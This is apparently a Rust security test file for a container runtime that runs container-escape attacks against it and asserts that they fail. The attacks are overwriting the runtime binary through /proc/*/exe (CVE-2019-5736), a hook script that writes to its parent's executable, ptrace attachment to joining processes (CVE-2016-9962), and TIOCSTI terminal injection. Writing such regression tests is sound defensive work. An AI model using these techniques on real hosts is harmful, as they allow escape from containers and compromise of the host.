//! A hostile program in a container, against the processes of the runtime's that it can see: their program, their memory, their descriptors.

use std::cmp::Ordering;
use std::collections::HashMap;
use std::fs;
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::{FileExt, MetadataExt, PermissionsExt};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use nix::errno::Errno;
use nix::sys::ptrace;
use nix::sys::wait::{WaitPidFlag, waitpid};
use nix::unistd::Pid;
use serde_json::{Value, json};

use super::{ROLE, Stand, all_capabilities, bind_role, role_words, said};
use crate::support::{tool, wait_for};

/// Device and inode of each file that may be overwritten. Nothing else is: a mistake here would be one of the host's.
const VICTIMS: &str = "MOORED_TEST_VICTIMS";
/// Its first process has forked and not executed anything (`PF_FORKNOEXEC`, include/linux/sched.h).
const NOT_EXECUTED: u64 = 0x40;
/// Ids of the container's root, and how many there are.
const FIRST: u32 = 300_000;

/// What [`VICTIMS`] says of a file.
fn victim(file: &fs::Metadata) -> String {
    format!("{}:{}", file.dev(), file.ino())
}

/// Opens the program of every process of its pid namespace, and writes to it as soon as that is possible (CVE-2019-5736). Ends with its
/// container.
#[test]
fn role_overwrite() {
    let (Ok(_), Ok(victims)) = (std::env::var(ROLE), std::env::var(VICTIMS)) else { return };
    let victims: Vec<&str> = victims.split(' ').collect();
    let mut found: HashMap<String, fs::File> = HashMap::new();
    println!("attacking");
    loop {
        for entry in fs::read_dir("/proc").unwrap().flatten() {
            let exe = entry.path().join("exe");
            let (Ok(path), Ok(file)) = (fs::read_link(&exe), fs::File::open(&exe)) else { continue };
            let Ok(name) = file.metadata().map(|stat| victim(&stat)) else { continue };
            // What the runtime runs from is neither of the host's file systems: an overlay's root, or memory.
            let runtimes_own = path == Path::new("/moored") || path.starts_with("/memfd:moored (deleted)");
            if !found.contains_key(&name) && (runtimes_own || victims.contains(&name.as_str())) {
                println!("found {} {name}", path.display());
                found.insert(name, file);
            }
        }
        for (name, file) in &found {
            let again = format!("/proc/self/fd/{}", file.as_raw_fd());
            // Busy while it runs. What is sealed can be opened, and not written.
            if fs::File::options().write(true).open(again).is_ok_and(|file| file.write_all_at(b"owned", 0).is_ok()) {
                println!("overwrote {name}");
            }
        }
        std::io::stdout().flush().unwrap();
    }
}

#[test]
fn nobody_overwrites_the_runtime_through_its_processes() {
    let Some(stand) = Stand::new("attack-exe") else { return };
    let Some(nsenter) = tool("nsenter") else { return };
    let naive = stand.dir.join("naive");
    fs::copy(nsenter, &naive).unwrap();
    let victims = [&naive, &stand.moored].map(|path| victim(&fs::metadata(path).unwrap())).join(" ");
    let out = stand.dir.join("attacker");
    stand.config(&[], |config| {
        all_capabilities(config);
        bind_role(config, "role_overwrite", &[format!("{VICTIMS}={victims}")]);
    });
    let mut run = stand.command("moored", "run {}");
    let mut run = run.stdout(fs::File::create(&out).unwrap()).spawn().unwrap();
    let heard = |text: &str| fs::read_to_string(&out).unwrap().contains(text);
    wait_for("the attacker", || heard("attacking").then_some(()));
    // Each joins with the runtime's program, until it executes that of the container.
    wait_for("the runtime to be found by it", || {
        stand.ok("exec {} /bin/true");
        heard("found /").then_some(())
    });
    // What looks as if it were the program that runs it, through a link and as an interpreter.
    fs::write(stand.root.join("script"), "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(stand.root.join("script"), fs::Permissions::from_mode(0o755)).unwrap();
    for program in ["/proc/self/exe", "/script"] {
        let _ = stand.run("moored", &format!("exec {{}} {program} oci --version"));
    }
    stand.canary.assert_unharmed("a program that overwrites");
    assert!(!heard("overwrote"), "{}", fs::read_to_string(&out).unwrap());
    // The same against one that joins with a program that is executed from its file.
    let pid = stand.pid();
    wait_for("the naive program to fall", || {
        let _ = Command::new(&naive).args(["-t", &pid, "-m", "-p", "/bin/sleep", "0.2"]).stdin(Stdio::null()).status();
        heard(&format!("overwrote {}", victims.split(' ').next().unwrap())).then_some(())
    });
    assert!(fs::read(&naive).unwrap().starts_with(b"owned"));
    stand.canary.assert_unharmed("a program that overwrites");
    stand.delete("moored");
    run.wait().unwrap();
}

/// Holds the program of its parent, the process that sets the container up, and writes to it once that runs another.
const OVERWRITE_PARENT: &str = r#"
exec 3</proc/$PPID/exe || { echo no right; exit 0; }
{ n=0; while [ $n -lt 60 ]; do
    if echo owned 2>/dev/null 1<>/proc/self/fd/3; then echo overwrote; exit; fi
    n=$((n+1)); sleep 0.05
  done; echo held; } >/seen 2>&1 &
"#;

/// The same for hooks inside, which are started by the runtime's own process in the container.
#[test]
fn the_runtime_is_not_overwritten_by_a_hook_inside() {
    let Some(stand) = Stand::new("attack-hook") else { return };
    let hook = |script: &str| json!([{"path": "/bin/sh", "args": ["sh", "-c", script], "env": ["PATH=/bin"]}]);
    let hooked = |hook: Value| {
        stand.config(&["/bin/sleep", "1000"], |config| {
            all_capabilities(config);
            config["hooks"] = json!({"startContainer": hook});
        });
    };
    hooked(hook(OVERWRITE_PARENT));
    stand.ok("run --detach {}");
    let seen = stand.root.join("seen");
    let read = || fs::read_to_string(&seen).ok().filter(|text| text.ends_with('\n'));
    assert_eq!(wait_for("the hook's attempts", read), "held\n");
    stand.canary.assert_unharmed("a hook inside");
    stand.delete("moored");

    // A runtime that is executed from its file, and executes the program as its last act: a shell on the host, in the root by chroot.
    fs::remove_file(&seen).unwrap();
    // Its name says that it is a shell, too.
    let naive = stand.dir.join("busybox-naive");
    fs::copy(stand.root.join("bin/busybox"), &naive).unwrap();
    let script = format!(
        "mount --bind /proc {root}/proc; mount --bind /dev {root}/dev; {naive} sh -c 'chroot {root} /bin/sh -c \"$0\"; exec /bin/sleep 4' \"$1\"",
        root = stand.root.display(),
        naive = naive.display()
    );
    let mut command = Command::new("unshare");
    command.args(["-m", "sh", "-c", &script, "sh", OVERWRITE_PARENT]).stdin(Stdio::null());
    let output = command.output().unwrap();
    assert_eq!(wait_for("the hook's attempts", read), "overwrote\n", "{}", said(&output));
    assert!(fs::read(&naive).unwrap().starts_with(b"owned"));

    // The runtime itself as the hook's program, directly and as the interpreter of a script: what runs then is not the host's file.
    fs::write(stand.root.join("script"), "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(stand.root.join("script"), fs::Permissions::from_mode(0o755)).unwrap();
    for program in ["/proc/self/exe", "/script"] {
        hooked(json!([{"path": program, "args": ["x", "oci", "--version"]}]));
        let _ = stand.run("moored", "run --detach {}");
        stand.delete("moored");
        stand.canary.assert_unharmed(program);
    }
}

/// From when the number of a process is given away until it can be found.
const COMES_WITHIN: Duration = Duration::from_millis(20);

/// Attaches to the next process that appears in its pid namespace, and tells those it had before they executed anything.
#[test]
fn role_attach() {
    if std::env::var(ROLE).is_err() {
        return;
    }
    let flags = |pid: i32| -> Option<u64> {
        let stat = fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
        stat.rsplit_once(')')?.1.split_whitespace().nth(6)?.parse().ok()
    };
    let mut next = std::process::id() as i32 + 1;
    let (mut refused, mut given_since) = (0u64, None);
    // Those of this program's own.
    while flags(next).is_some() || fs::metadata(format!("/proc/self/task/{next}")).is_ok() {
        next += 1;
    }
    println!("attacking");
    std::io::stdout().flush().unwrap();
    loop {
        match ptrace::seize(Pid::from_raw(next), ptrace::Options::empty()) {
            Ok(()) => {
                let before = flags(next).is_some_and(|flags| flags & NOT_EXECUTED != 0);
                println!("attached {} after {refused} refusals", if before { "before" } else { "after" });
                // Else its end would wait for this one.
                let process = Pid::from_raw(next);
                let _ = ptrace::interrupt(process);
                let _ = waitpid(process, Some(WaitPidFlag::__WALL));
                let _ = ptrace::detach(process, None);
                next += 1;
            }
            Err(Errno::EPERM) => {
                // Its memory and its descriptors are as closed.
                let open = |name: &str| {
                    fs::File::open(format!("/proc/{next}/{name}"))
                        .and_then(|mut file| std::io::Read::read(&mut file, &mut [0; 1]))
                };
                let before = flags(next).is_some_and(|flags| flags & NOT_EXECUTED != 0);
                let listed = fs::read_dir(format!("/proc/{next}/fd")).is_ok_and(|mut all| {
                    all.next().is_some_and(|one| one.is_ok_and(|one| fs::read_link(one.path()).is_ok()))
                });
                let reached =
                    listed || open("environ").is_ok_and(|got| got > 0) || open("maps").is_ok_and(|got| got > 0);
                // Looked at again: it may have executed meanwhile.
                if before && reached && flags(next).is_some_and(|flags| flags & NOT_EXECUTED != 0) {
                    println!("looked before");
                }
                refused += 1;
            }
            Err(_) => {
                refused = 0;
                // The newest number of this namespace (proc_loadavg(5)). A number is given away before its process can be found, so it is
                // not passed over at once; one that came and went unseen is.
                let average = fs::read_to_string("/proc/loadavg").unwrap();
                let newest: i32 = average.split_whitespace().last().unwrap().parse().unwrap();
                match newest.cmp(&next) {
                    Ordering::Less => given_since = None,
                    Ordering::Equal => {
                        let since: &mut Instant = given_since.get_or_insert_with(Instant::now);
                        if since.elapsed() > COMES_WITHIN {
                            (next, given_since) = (next + 1, None);
                        }
                    }
                    Ordering::Greater => (next, given_since) = (newest, None),
                }
            }
        }
        std::io::stdout().flush().unwrap();
    }
}

/// CVE-2016-9962: in a user namespace, whose root may trace all that is in it.
#[test]
fn nobody_attaches_to_a_process_that_joins() {
    let Some(stand) = Stand::new("attack-ptrace") else { return };
    if tool("nsenter").is_none() {
        return;
    }
    give(&stand.root);
    let out = stand.dir.join("attacker");
    stand.config(&[], |config| {
        config["linux"]["namespaces"].as_array_mut().unwrap().push(json!({ "type": "user" }));
        for map in ["uidMappings", "gidMappings"] {
            config["linux"][map] = json!([{"containerID": 0, "hostID": FIRST, "size": 1000}]);
        }
        all_capabilities(config);
        bind_role(config, "role_attach", &[]);
    });
    let mut run = stand.command("moored", "run {}");
    let mut run = run.stdout(fs::File::create(&out).unwrap()).spawn().unwrap();
    let text = || fs::read_to_string(&out).unwrap();
    wait_for("the attacker", || text().contains("attacking").then_some(()));
    for _ in 0..8 {
        // What is attached to goes on; it is waited for.
        assert!(stand.run("moored", "exec {} /bin/sleep 0.3").status.success());
    }
    wait_for("the attacker to have seen some", || text().contains("attached after").then_some(()));
    assert!(!text().contains("before"), "{}", text());
    let pid = stand.pid();
    // nsenter is as it was when it was executed on the host until its child executes.
    wait_for("nsenter to fall", || {
        let _ = Command::new("nsenter")
            .args(["-t", &pid, "-U", "-m", "-p", "--preserve-credentials", "/bin/sleep", "0.1"])
            .stdin(Stdio::null())
            .status();
        text().contains("before").then_some(())
    });
    stand.canary.assert_unharmed("a program that attaches");
    stand.delete("moored");
    run.wait().unwrap();
}

fn give(path: &Path) {
    std::os::unix::fs::lchown(path, Some(FIRST), Some(FIRST)).unwrap();
    if path.is_dir() && !path.is_symlink() {
        fs::read_dir(path).unwrap().for_each(|entry| give(&entry.unwrap().path()));
    }
}

/// Puts a letter into the input of the terminal it was given, as if it were typed there.
#[test]
fn role_type() {
    if std::env::var(ROLE).is_err() {
        return;
    }
    let letter: libc::c_char = b'x' as libc::c_char;
    // SAFETY: reads one byte at the pointer.
    let typed = unsafe { libc::ioctl(0, libc::TIOCSTI, &letter) };
    println!("typed {typed} {}", Errno::last());
    std::process::exit(0);
}

/// A shell that a container was started from would execute what is typed so.
#[test]
fn a_container_cannot_type_into_the_terminal_it_was_started_from() {
    let Some(stand) = Stand::new("attack-typing") else { return };
    if tool("script").is_none() {
        return;
    }
    stand.config(&[], |config| bind_role(config, "role_type", &[]));
    let typed = |words: &str| {
        let mut script = Command::new("script");
        // Without the capability with which any terminal may be typed into.
        let bounded = format!("exec setpriv --bounding-set=-sys_admin --inh-caps=-all -- {words}");
        let words = if words.contains("oci") { words.to_owned() } else { bounded };
        script.args(["-qec", &words, "/dev/null"]).env(ROLE, "1").stdin(Stdio::null()).current_dir(stand.dir.join("b"));
        said(&script.output().unwrap())
    };
    let state = stand.dir.join("moored.state");
    let contained = typed(&format!("{} oci --root {} run {}", stand.moored.display(), state.display(), stand.id()));
    assert!(contained.contains("typed -1 "), "{contained}");
    let allowed = fs::read_to_string("/proc/sys/dev/tty/legacy_tiocsti").map_or(true, |text| text.trim() == "1");
    let naive = typed(&role_words(&std::env::current_exe().unwrap(), "role_type").join(" "));
    assert!(!allowed || naive.contains("typed 0 "), "{naive}");
}
